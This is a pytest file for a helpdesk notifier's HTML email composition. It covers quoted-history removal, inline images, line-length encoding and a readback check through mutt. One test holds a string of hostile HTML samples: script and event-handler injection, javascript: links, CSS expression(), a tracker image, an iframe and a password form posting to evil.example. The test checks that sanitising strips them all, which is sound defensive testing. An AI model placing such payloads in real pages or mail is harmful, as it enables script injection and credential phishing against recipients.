"""HTML out: multipart/alternative updates and alerts, quoted history cut,
inline images as multipart/related, hostile HTML never reaching a customer;
read back with the standard library's parser and with mutt."""

from __future__ import annotations

import shutil
import subprocess
from datetime import datetime
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest

from postdesk.notifier.compose import compose
from postdesk.notifier.html import new_html
from postdesk.notifier.policy import entry
from postdesk.outbox_rows import ActionRow, AttachmentInfo, Entry, Job, Person
from tests.conftest import need

NOW = datetime(2026, 11, 27, 12, 0, 0)
SECRET = b"k" * 32
BOB = Person("bob@example.com", "Bob", staff=True)
ALICE = Person("alice@customer.org", "Alice")
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8
PDF = b"%PDF-1.4\n" + b"x" * 5000
CID = "image001.png@01DA0000.00000000"
IMG = AttachmentInfo(1, "screenshot.png", "image/png", len(PNG), "a" * 64, CID, inline=True)
DOC = AttachmentInfo(2, "invoice.pdf", "application/pdf", len(PDF), "b" * 64)
BLOBS = {"a" * 64: PNG, "b" * 64: PDF}


def job(entries, kind="update", recipient=ALICE) -> Job:
    return Job(row_id=1, token=1, kind=kind, ticket=1042, subject="Printer", status="open", recipient=recipient, entries=tuple(entries), in_reply_to="orig@customer.org")


def mail(j: Job, config):
    return compose(j, config, SECRET, NOW, BLOBS.__getitem__)


def parse(data: bytes):
    return BytesParser(policy=policy.default).parsebytes(data)


HTML_ENTRY = Entry(1, "message", True, BOB, "Try this:\n\n| a | b |\n\n[screenshot]", NOW, attachments=(IMG, DOC),
                   html=f'<p>Try <b>this</b>:</p><table><tr><td>a</td><td>b</td></tr></table><img src="cid:{CID}">')


@pytest.mark.parametrize(
    "html, kept, gone",
    [
        ('<div>New</div><div>On Mon, 1 Dec 2026, Jane wrote:<br></div><blockquote type="cite"><p>Old</p></blockquote>', "New", ["Old", "wrote"]),
        ('<div dir="ltr">New</div><div><div dir="ltr">Am Mo., 1. Dez. 2026 um 10:00 Uhr schrieb Jane &lt;j@x.de&gt;:<br></div>'
         '<blockquote style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Old</blockquote></div>', "New", ["Old", "schrieb"]),
        ('<p>New</p><div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm"><p><b>From:</b> Jane<br><b>Sent:</b> Monday</p></div><p>Old</p>', "New", ["Old", "Sent"]),
        ('<div>New</div><hr style="width:98%"><div><b>Von:</b> Jane<br><b>Gesendet:</b> Montag</div><div>Old</div>', "New", ["Old", "Gesendet"]),
        ('<div>New</div><p>##- Please type your reply above this line -##</p><p>Old</p>', "New", ["Old"]),
        ('<div>New</div><div>-----Original Message-----<br>From: x</div><div>Old</div>', "New", ["Old"]),
        ('<div>New</div><hr><div>Not a header</div>', "Not a header", []),  # a plain rule is not a quote
    ],
)
def test_quoted_history_is_cut_from_the_html(html, kept, gone):
    out = new_html(html)
    assert kept in out
    for word in gone:
        assert word not in out


def test_policy_entry_carries_the_cut_html():
    a = ActionRow(1, "message", True, BOB, "t", "t", NOW, html='<p>New</p><blockquote type="cite">Old</blockquote>')
    assert entry(a, customer=True).html == "<p>New</p>"


def test_update_with_html_is_alternative_with_related_images(config):
    data = mail(job([HTML_ENTRY]), config).data
    m = parse(data)
    assert m.get_content_type() == "multipart/mixed"
    alternative, pdf = m.get_payload()
    assert alternative.get_content_type() == "multipart/alternative"
    text, related = alternative.get_payload()
    assert text.get_content_type() == "text/plain" and "Try this:" in text.get_content()
    assert "screenshot.png" in text.get_content() and "invoice.pdf" in text.get_content()  # text-only readers see everything
    html, image = related.get_payload()
    assert html.get_content_type() == "text/html" and "<b>this</b>" in html.get_content() and "<table>" in html.get_content()
    assert image["Content-ID"] == f"<{CID}>" and image.get_content() == PNG and image.get_content_disposition() == "inline"
    assert pdf.get_filename() == "invoice.pdf" and pdf.get_content() == PDF
    assert m["In-Reply-To"] == "<orig@customer.org>" and m["References"] == "<orig@customer.org>"
    assert all(len(line) <= 998 for line in data.split(b"\r\n"))
    assert not any(p.defects for p in m.walk())


def test_several_actions_keep_their_own_formatting(config):
    second = Entry(2, "message", True, BOB, "Second", NOW, html="<ul><li><i>Second</i></li></ul>")
    plain = Entry(3, "message", True, ALICE, "Plain <b>not bold</b>", NOW)
    m = parse(mail(job([HTML_ENTRY, second, plain]), config).data)
    html = next(p for p in m.walk() if p.get_content_type() == "text/html").get_content()
    assert html.index("<b>this</b>") < html.index("<ul><li><i>Second</i></li></ul>") < html.index("Plain &lt;b&gt;not bold&lt;/b&gt;")


def test_long_html_lines_are_encoded_within_998_octets(config):
    long = Entry(1, "message", True, BOB, "x", NOW, html="<p>" + "word " * 5000 + "</p>")
    data = mail(job([long]), config).data
    assert max(len(line) for line in data.split(b"\r\n")) <= 998


def test_alert_with_html_carries_inline_images_only(config):
    m = parse(mail(job([HTML_ENTRY], kind="alert", recipient=Person("team@example.com")), config).data)
    types = [p.get_content_type() for p in m.walk()]
    assert types == ["multipart/alternative", "text/plain", "multipart/related", "text/html", "image/png"]


def test_ack_and_text_only_updates_stay_text(config):
    plain = Entry(1, "message", True, BOB, "Hi", NOW)
    assert parse(mail(job([plain]), config).data).get_content_type() == "text/plain"
    # An acknowledgement echoes nothing of the customer's mail: text, no files.
    assert parse(mail(job([HTML_ENTRY], kind="ack"), config).data).get_content_type() == "text/plain"


HOSTILE = (
    '<p onclick="steal()">Hi</p><script>alert(1)</script><img src="https://tracker.example/p.gif" onerror="x()">'
    '<a href="javascript:alert(1)">link</a><div style="width:expression(alert(1))">css</div>'
    '<form action="https://evil.example"><input name="pw"></form><iframe src="https://evil.example"></iframe>'
    '<a href="https://ok.example/">fine</a>'
)


def test_hostile_staff_html_never_reaches_the_customer(config):
    e = Entry(1, "message", True, BOB, "Hi", NOW, html=HOSTILE)  # even if the store held it unsanitised
    data = mail(job([e]), config).data
    html = next(p for p in parse(data).walk() if p.get_content_type() == "text/html").get_content().lower()
    for bad in ("<script", "onclick", "onerror", "javascript:", "expression(", "tracker.example", "<form", "<input", "<iframe", "evil.example"):
        assert bad not in html, bad
    assert 'href="https://ok.example/"' in html


def _mutt_read(data: bytes, tmp: Path) -> tuple[str, dict[str, bytes]]:
    """The message as mutt shows it (its decoded text) and the attachments it saves."""
    box, saved = tmp / "box", tmp / "saved"
    saved.mkdir()
    box.write_bytes(b"From support@example.com Thu Nov 27 12:00:00 2026\n" + data.replace(b"\r\n", b"\n") + b"\n")
    keys = "<save-entry><enter><next-entry>" * 8
    rc = tmp / "muttrc"
    rc.write_text(
        f"set folder={tmp}\nset pipe_decode=yes\nset wait_key=no\nset quit=yes\nset confirmcreate=no\n"
        f'push "<view-attachments>{keys}<exit><pipe-message>cat > {tmp}/shown.txt<enter><quit>"\n'
    )
    # mutt is a terminal program: script(1) gives it one.
    subprocess.run(["script", "-qfc", f"mutt -n -F {rc} -R -f {box}", "/dev/null"], cwd=saved, env={"TERM": "xterm", "HOME": str(tmp), "PATH": "/usr/bin:/bin"},
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, check=False)
    return (tmp / "shown.txt").read_text(encoding="utf-8"), {p.name: p.read_bytes() for p in saved.iterdir()}


def test_mutt_shows_the_same_text_images_and_attachments(config, tmp_path):
    need(shutil.which("mutt") is not None and shutil.which("script") is not None, "mutt (Debian package mutt) is not installed")
    data = mail(job([HTML_ENTRY]), config).data
    m = parse(data)
    text = next(p for p in m.walk() if p.get_content_type() == "text/plain").get_content()
    shown, files = _mutt_read(data, tmp_path)
    body = shown.split("\n\n", 1)[1]
    assert text.replace("\r\n", "\n").strip() in body
    assert "Subject: [#1042] Printer" in shown
    assert files == {"screenshot.png": PNG, "invoice.pdf": PDF}


def test_huge_html_goes_as_text_only():
    from postdesk.notifier.policy import MAX_HTML

    a = ActionRow(1, "message", True, BOB, "t", "t", NOW, html="<p>" + "x" * MAX_HTML + "</p>")
    assert entry(a, customer=True).html == ""
